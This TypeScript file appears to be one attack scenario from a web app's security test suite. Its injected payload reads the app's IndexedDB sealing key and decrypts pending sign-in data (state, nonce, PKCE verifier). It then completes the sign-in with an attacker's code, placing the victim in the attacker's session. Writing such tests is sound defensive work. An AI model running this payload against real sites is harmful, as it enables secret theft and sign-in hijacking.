import { attack } from "../attack.js";

export default attack({
  name: "the attacker's account, with the secrets of a sign-in under way",
  threat: "bending the sign-in",
  target: "strongroom",
  // State, nonce and verifier are opened where they lie, so that a code of the attacker's own can answer them.
  async payload(it) {
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const database = await done(indexedDB.open("strongroom"));
    const store = (name: string) => database.transaction(name).objectStore(name);
    const key = (await done(store("values").get("sealing"))) as CryptoKey;
    const names = await done(store("transactions").getAllKeys());
    const rows = (await done(store("transactions").getAll())) as { iv: BufferSource; data: BufferSource }[];
    database.close();
    const opened: string[] = [];
    for (const [index, { iv, data }] of rows.entries()) {
      const additionalData = new TextEncoder().encode(String(names[index]));
      const bytes = await crypto.subtle.decrypt({ name: "AES-GCM", iv, additionalData }, key, data);
      opened.push(new TextDecoder().decode(bytes));
    }
    (window as { opened?: string[] }).opened = opened;
    it.steal(opened);
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    const tab = await stage.browser.currentTab();
    await stage.beginSignIn();
    await stage.browser.newTab(`${stage.site.origin}/`);
    await stage.waitForState("signed-out");
    await stage.inject();
    const secrets = await stage.browser.evaluate(() => (window as { opened?: string[] }).opened ?? []);
    await stage.closeThisTab(tab);
    for (const secret of secrets) {
      const { state, nonce, verifier } = JSON.parse(secret) as Record<"state" | "nonce" | "verifier", string>;
      await stage.browser.goto(
        await stage.codeOfTheAttacker({ state, nonce, code_challenge: stage.challengeOf(verifier) }),
      );
    }
  },
  gain: (stage) => stage.isTheAttackersSession(),
});
